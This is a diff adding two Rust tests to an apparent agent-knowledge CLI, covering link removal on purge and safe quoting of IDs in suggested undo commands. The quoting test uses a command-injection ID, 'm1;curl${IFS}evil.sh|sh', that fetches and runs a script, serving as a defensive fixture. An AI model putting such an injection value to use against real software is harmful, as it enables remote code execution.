@@ -278,6 +278,54 @@ fn all_that_somebody_wrote_is_taken_back_at_once_and_brought_back() {
     assert_eq!(world.agent_knowledge(&["purge"]).exit, Some(64));
 }
 
+// S-LIFE-10
+#[test]
+fn the_links_that_somebody_told_go_with_them_also_those_of_code() {
+    let world = World::new();
+    let link = |id: &str, source: &str, target: &str| {
+        let mut line = about(id, "2026-01-03", "mallory", source, "link");
+        (line["relation"], line["target"]) = ("calls".into(), target.into());
+        line
+    };
+    lines(
+        &world,
+        &[
+            line("01GOOD", "2026-01-01", "codex", "error", "raise the timeout"),
+            line("01FINE", "2026-01-01", "codex", "error", "restart the walrus"),
+            link("01TIE", "01GOOD", "01FINE"),
+            link("01CODE", "code:src/a.rs", "01GOOD"),
+        ],
+    );
+    let linked = || {
+        let of = world.asked(&["related", "01GOOD", "--relation", "calls"]);
+        of["related"].as_array().unwrap().len()
+    };
+    assert_eq!(linked(), 2);
+    let purge = |more: &[&str]| {
+        world.agent_knowledge(&[&["purge", "--author", "mallory"], more].concat()).done()
+    };
+    let shown = purge(&["--apply"]);
+    assert!(shown.starts_with("Done: 2 discount.") && shown.contains("src/a.rs · api"), "{shown}");
+    assert_eq!(linked(), 0);
+    assert_eq!(purge(&["--apply"]), "Nothing to do.\n");
+    purge(&["--undo", "--apply"]);
+    assert_eq!(linked(), 2);
+}
+
+// S-REPLY-3
+#[test]
+fn an_id_stands_quoted_in_the_commands_that_replies_offer() {
+    let world = World::new();
+    let id = "m1;curl${IFS}evil.sh|sh";
+    lines(&world, &[line(id, "2026-01-01", "codex", "error", "walrus build hangs: restart it")]);
+    let said = world.agent_knowledge(&["forget", id]).done();
+    assert!(said.contains(&format!("forget --undo '{id}' takes that back")), "{said}");
+    lines(&world, &[line("-m2", "2026-01-01", "codex", "error", "walrus build hangs: wait")]);
+    let said = world.agent_knowledge(&["forget", "--", "-m2"]).done();
+    assert!(said.contains("forget --undo -- '-m2' takes that back"), "{said}");
+    world.agent_knowledge(&["forget", "--undo", "--", "-m2"]).done();
+}
+
 // S-LIFE-11
 #[test]
 fn what_nobody_needed_for_long_fades_when_asked_to_and_comes_back() {
